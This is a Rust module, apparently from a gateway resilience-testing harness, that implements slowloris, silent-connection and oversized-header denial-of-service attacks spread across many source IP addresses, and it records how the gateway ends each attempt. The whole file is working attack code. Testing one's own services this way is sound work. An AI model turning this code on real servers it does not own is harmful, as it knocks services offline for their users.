//! Attacks on the request head, before any authentication: connections that send nothing, a
//! head one line per second (slowloris), or a head of hundreds of KiB that never ends.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use futures_util::future::join_all;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::sync::Semaphore;
use tokio::time::Instant;

use super::AttackOptions;
use super::endpoint::Endpoint;
use super::outcomes::Outcomes;

/// Connects opened at once at most, so the gateway's accept queue does not overflow into SYN
/// retransmits (which would only slow the attack down).
const CONNECTING_AT_ONCE: usize = 200;
/// A header line of about 1 KiB.
const LINE_VALUE: usize = 1000;

/// What each connection sends.
#[derive(Clone, Copy, Debug)]
pub(super) enum Head {
    /// Nothing.
    Silent,
    /// The request line, then one header line per this interval.
    Slow(Duration),
    /// The request line, then this many bytes of header lines, without the blank line.
    Large(usize),
}

/// Keeps `options.connections` connections spread over `sources` busy until `options.hold`
/// ends: each sends `head`, and when the gateway ends it, the attacker opens another, as a
/// real one would. Labels how each attempt ended, and counts them under `attempts`.
pub(super) async fn run(
    endpoint: &Endpoint,
    sources: &[Ipv4Addr],
    options: &AttackOptions,
    head: Head,
) -> Outcomes {
    let deadline = Instant::now() + options.hold;
    let connecting = Arc::new(Semaphore::new(CONNECTING_AT_ONCE));
    let attackers = (0..options.connections).map(|index| {
        let source = sources[index % sources.len()];
        let (endpoint, connecting) = (endpoint.clone(), connecting.clone());
        tokio::spawn(async move {
            let mut labels = Vec::new();
            while Instant::now() < deadline {
                let attempt = labels.len();
                let permit = connecting.clone().acquire_owned().await;
                let stream = match endpoint.connect_from(source).await {
                    Ok(stream) => stream,
                    Err(_) => {
                        labels.push("connect_failed".to_owned());
                        continue;
                    }
                };
                drop(permit);
                let (read, write) = stream.into_split();
                let request_line = format!(
                    "GET {}?key=attack-{index}-{attempt} HTTP/1.1\r\n",
                    endpoint.path
                );
                labels.push(attack_one(read, write, request_line, head, deadline).await);
            }
            labels
        })
    });
    let mut outcomes = Outcomes::default();
    for labels in join_all(attackers).await.into_iter().flatten() {
        outcomes.add("attempts", labels.len());
        for label in labels {
            outcomes.add(label, 1);
        }
    }
    outcomes
}

async fn attack_one(
    mut read: OwnedReadHalf,
    write: OwnedWriteHalf,
    request_line: String,
    head: Head,
    deadline: Instant,
) -> String {
    let send = async move {
        let mut write = write;
        // A write fails once the gateway closed the connection; the answer tells why. The
        // write half stays open (dropping it would send a FIN).
        let _ = send_head(&mut write, request_line, head).await;
        std::future::pending::<()>().await;
    };
    tokio::select! {
        answer = read_answer(&mut read) => answer,
        () = send => unreachable!("sending never finishes"),
        () = tokio::time::sleep_until(deadline) => "held_open".to_owned(),
    }
}

async fn send_head(
    write: &mut OwnedWriteHalf,
    request_line: String,
    head: Head,
) -> std::io::Result<()> {
    match head {
        Head::Silent => Ok(()),
        Head::Slow(interval) => {
            write.write_all(request_line.as_bytes()).await?;
            for line in 0usize.. {
                tokio::time::sleep(interval).await;
                write
                    .write_all(format!("X-Slow-{line}: 1\r\n").as_bytes())
                    .await?;
            }
            Ok(())
        }
        Head::Large(bytes) => {
            write.write_all(request_line.as_bytes()).await?;
            let mut sent = 0;
            let mut line = 0usize;
            while sent < bytes {
                let text = format!("X-Pad-{line}: {}\r\n", "p".repeat(LINE_VALUE));
                write.write_all(text.as_bytes()).await?;
                sent += text.len();
                line += 1;
            }
            Ok(())
        }
    }
}

/// `status_NNN` for an answer, `closed` when the gateway closed without one, `reset` when the
/// connection was reset.
async fn read_answer(read: &mut OwnedReadHalf) -> String {
    let mut answer = [0u8; 64];
    let mut filled = 0;
    loop {
        match read.read(&mut answer[filled..]).await {
            Ok(0) if filled == 0 => return "closed".to_owned(),
            Ok(0) => break,
            Ok(n) => {
                filled += n;
                if filled >= 12 || answer[..filled].contains(&b'\n') {
                    break;
                }
            }
            Err(_) if filled == 0 => return "reset".to_owned(),
            Err(_) => break,
        }
    }
    let text = String::from_utf8_lossy(&answer[..filled]);
    match text.split(' ').nth(1) {
        Some(status) if text.starts_with("HTTP/") => {
            format!("status_{}", status.chars().take(3).collect::<String>())
        }
        _ => "garbage".to_owned(),
    }
}
